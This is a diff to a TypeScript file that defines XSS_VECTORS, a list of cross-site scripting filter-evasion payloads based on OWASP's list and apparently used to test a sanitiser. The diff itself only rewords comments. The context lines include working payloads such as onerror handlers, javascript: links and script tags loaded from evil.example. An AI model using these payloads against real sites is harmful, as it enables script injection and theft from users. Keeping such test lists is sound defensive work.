@@ -1,6 +1,6 @@
-/** Attempts to get a script past a filter, after the list of evasions that OWASP keeps. */
+/** Attempts to get a script past a filter, based on OWASP's list of evasions. */
 export const XSS_VECTORS: string[] = [
-  // Scripts, spelt in every way that browsers have been seen to accept.
+  // Scripts, in every spelling that browsers have accepted.
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
@@ -41,7 +41,7 @@ export const XSS_VECTORS: string[] = [
   '<!--><img src=x onerror=alert(1)>-->',
   '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
   '<comment><img src="</comment><img src=x onerror=alert(1)//">',
-  // Addresses of links.
+  // URLs of links.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="jAvAsCrIpT:alert(1)">x</a>',
   '<a href="  javascript:alert(1)">x</a>',
@@ -223,7 +223,7 @@ export const XSS_VECTORS: string[] = [
   '<x contenteditable onblur=alert(1)>lose focus!',
   '<LAYER SRC="https://evil.example/scriptlet.html"></LAYER>',
   '<ilayer src=x>',
-  // Markup that is broken, half open or hidden in entities.
+  // Broken, unclosed or entity-encoded markup.
   '<img src="x` `<script>alert(1)</script>"` `>',
   '<a href="',
   '<a href="x',
